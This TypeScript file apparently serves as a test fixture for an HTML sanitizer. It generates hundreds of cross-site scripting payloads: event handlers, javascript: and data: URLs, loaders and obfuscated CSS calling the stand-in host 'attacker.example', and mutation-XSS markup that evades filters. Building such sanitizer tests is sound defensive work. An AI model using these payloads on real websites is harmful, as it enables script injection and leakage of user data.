/** The server of the attacker. No request may reach it. */
export const attackerHost = 'attacker.example';
const attacker = `https://${attackerHost}`;
const run = `alert('ran')`;

const events =
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload blur cancel canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange ended error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting wheel'.split(
    ' ',
  );
const hosts = ['div tabindex=1', 'img src=x', 'svg', 'details open', 'input autofocus', 'body', 'video src=x', 'math'];

/** Every event on elements of different kinds, in the notations that filters have missed. */
const handlers = events.flatMap((event, index) => {
  const host = hosts[index % hosts.length] as string;
  return [
    index % 2 === 0 ? `<${host} on${event}="${run}">x` : `<${host}/ON${event.toUpperCase()}=${run}>x`,
    `<svg><a xlink:href=# on${event}="${run}"><text>x</text></a></svg>`,
  ];
});

const schemes = [
  `javascript:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${run}"/>`,
  `${attacker}/a`,
  `//attacker.example/a`,
  `https:/\\attacker.example/a`,
];
/** Elements that load, follow or submit a URL. `#` is the URL. */
const loaders = [
  `<img src="#">`,
  `<img srcset="# 1x, # 2x">`,
  `<img lowsrc="#" dynsrc="#" longdesc="#">`,
  `<picture><source srcset="#"><img alt=""></picture>`,
  `<iframe src="#"></iframe>`,
  `<iframe srcdoc="<img src='#'><script>${run}</script>"></iframe>`,
  `<frameset><frame src="#"></frameset>`,
  `<object data="#"></object>`,
  `<embed src="#">`,
  `<applet code="#" archive="#"></applet>`,
  `<audio src="#" autoplay></audio>`,
  `<video src="#" poster="#" autoplay><track src="#" default></video>`,
  `<input type="image" src="#">`,
  `<body background="#">`,
  `<table background="#"><tr><td background="#">x</table>`,
  `<link rel="stylesheet" href="#">`,
  `<link rel="preload" as="image" href="#"><link rel="prefetch" href="#"><link rel="preconnect" href="#">`,
  `<link rel="icon" href="#"><link rel="manifest" href="#"><link rel="import" href="#">`,
  `<script src="#"></script>`,
  `<svg><script href="#" /></svg>`,
  `<svg><image href="#" xlink:href="#" /></svg>`,
  `<svg><use href="#" /></svg>`,
  `<svg><feImage href="#" /></svg>`,
  `<svg><animate attributeName="href" values="#" /></svg>`,
  `<math href="#">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src="#"></annotation-xml></math>`,
  `<base href="#"><img src="a">`,
  `<meta http-equiv="refresh" content="0;url=#">`,
  `<form action="#"><button formaction="#">x</button><input type="submit"></form>`,
  `<a href="#" ping="#">x</a>`,
  `<area href="#" ping="#">`,
  `<bgsound src="#">`,
  `<xml src="#">`,
  `<portal src="#"></portal>`,
  `<noscript><img src="#"></noscript>`,
  `<template shadowrootmode="open"><img src="#"></template>`,
  `<div style="background: url(#)">x</div>`,
  `<div style="background: url('#')">x</div>`,
  `<div style='list-style: url(&quot;#&quot;); content: url(#); cursor: url(#), auto'>x</div>`,
  `<style>body { background: url(#) }</style>`,
  `<style>@import "#"; @import url(#);</style>`,
  `<style>@font-face { font-family: f; src: url(#) } body { font-family: f }</style>`,
];
const urls = loaders.flatMap((loader) => schemes.map((scheme) => loader.replaceAll('#', () => scheme)));

/** CSS that hides its requests. */
const styles = [
  String.raw`background: \75rl(#)`,
  String.raw`background: u\72 l(#)`,
  String.raw`background: URL(#)`,
  `background: url(\n#\n)`,
  `background: image-set("#" 1x)`,
  `background: -webkit-image-set(url(#) 1x)`,
  `background: cross-fade(url(#), url(#))`,
  `--x: url(#); background: var(--x)`,
  String.raw`--x: u\72l(#); background: var(--x)`,
  `border-image: url(#) 30`,
  `mask: url(#)`,
  `filter: url(#)`,
  `clip-path: url(#)`,
  `shape-outside: url(#)`,
  `background: url(/**/#)`,
  `background: url("#"`,
  `background: red url(data:image/gif;base64,AA==) url(#)`,
  `behavior: url(#); -moz-binding: url(#)`,
  `width: expression(${run})`,
].flatMap((css) => {
  const filled = css.replaceAll('#', `${attacker}/css`);
  return [
    `<p style='${filled.replaceAll("'", '&#39;')}'>x</p>`,
    `<style>body, p { ${filled} }</style><p>x</p>`,
    `<style><!-- body { ${filled} } --></style>`,
    `<style media=all>@media all { p { ${filled} } }</style><p>x</p>`,
  ];
});
const imports = [
  `<style>@im@import "x";port "${attacker}/css";</style>`,
  String.raw`<style>@\69mport "${attacker}/css";</style>`,
  `<style>@IMPORT '${attacker}/css';</style>`,
  `<style>@import"${attacker}/css"layer(a)supports(display: grid);</style>`,
  `<style>@charset "utf-7"; @import '${attacker}/css';</style>`,
];

/** Markup that parses differently the second time. */
const mutations = [
  `<svg><p><style><img src="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><style><a title="</style><img src=x onerror=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<a id="a" name="x"><a id="a" name="attributes"></a></a><img name="documentElement"><img name="body">`,
  `<form id="x"><input name="attributes"><input name="parentNode"><input name="removeChild"></form>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<textarea></textarea><script>${run}</script>`,
  `<title><img src="</title><img src=x onerror=${run}>"></title>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><script>${run}</script>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<script>${run}</script>`,
  `<SCRIPT SRC=${attacker}/a.js></SCRIPT>`,
  `<script type=module>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script>&#97;lert('ran')</script></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${run}>x</div>`,
  `<p is="x-y" slot="a" contenteditable onfocus=${run} autofocus>x</p>`,
  `\u0000<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `+ADw-script+AD4-alert('ran')+ADw-/script+AD4-`,
];

/** Documents that try to run a script or to send a request. */
export const hostileHtml: readonly string[] = [...new Set([...handlers, ...urls, ...styles, ...imports, ...mutations])];
